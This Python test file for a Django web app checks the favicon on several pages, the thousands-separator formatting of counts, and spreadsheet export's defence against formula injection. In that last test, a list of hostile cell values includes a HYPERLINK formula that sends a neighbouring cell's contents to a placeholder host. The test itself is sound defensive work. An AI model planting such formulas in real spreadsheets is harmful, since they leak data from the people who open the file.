"""Small things a person sees on every page (issue 12, 10): the site's icon, and counts in one format."""
import io

import openpyxl
from django.contrib.staticfiles import finders

from mamori.core import rendering
from mamori.core.models import User
from mamori.incidents.models import Incident


def test_every_page_has_the_icon_and_it_exists(client, city):
    client.force_login(city.users.office)
    for url in ("/", "/register/", "/requests/", "/audit/"):
        assert '<link rel="icon" href="/static/core/favicon.svg" type="image/svg+xml">' in client.get(url).content.decode(), url
    assert finders.find("core/favicon.svg")


def test_counts_read_with_thousands_separators(client, demo):
    client.force_login(User.objects.get(username="hogo"))
    incident = Incident.objects.get()
    assert incident.persons == 12371
    assert "12,371人" in client.get("/incidents/").content.decode()


def test_text_typed_as_a_formula_stays_text_in_a_spreadsheet(db):
    """Review finding (formula injection): a training name 「=HYPERLINK(…)」 must reach 資料4.xlsx as text."""
    wb = openpyxl.Workbook()
    names = ['=HYPERLINK("http://example.invalid/?"&A2,"x")', "+1+1", "-2", "@SUM(A1)", "研修"]
    rendering.xlsx_table(wb.active, rendering.Table(widths=(60,), body=[[n] for n in names]), 1)
    sheet = openpyxl.load_workbook(io.BytesIO(rendering.xlsx_bytes(wb))).active
    assert [(c.value, c.data_type) for (c,) in sheet.iter_rows()] == [(n, "s") for n in names]
